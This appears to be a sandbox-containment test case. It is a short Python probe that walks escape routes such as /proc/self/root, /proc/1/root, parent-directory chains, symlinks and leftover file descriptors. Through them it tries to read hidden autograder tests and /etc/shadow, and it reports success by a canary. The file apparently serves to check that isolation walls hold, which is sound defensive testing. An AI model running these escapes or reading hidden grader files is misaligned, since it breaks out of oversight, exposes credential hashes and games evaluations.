# DESC: the course through /proc/self/root, /proc/self/cwd, .., kept directory descriptors and symbolic links
# SUCCESS: a canary
# DETECT: canary
# KIND: cell
# WALLS: namespaces ids proc
import os

roads = ["/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../..", "../" * 20, "/proc/thread-self/root", "/dev/fd/3/..", "/.spare", "/course/../.."]
os.symlink(COURSE, "away")
roads.append(os.path.abspath("away") + "/..")
for fd in range(3, 20):
    roads.append(f"/proc/self/fd/{fd}/../../../..")
for road in roads:
    for name in (COURSE + "/autograders/hostile/test_hidden.py", "/autograders/hostile/test_hidden.py", "/etc/shadow"):
        try:
            seek(open(road + name, "rb").read(), road)
            won(road + name)
        except OSError:
            pass
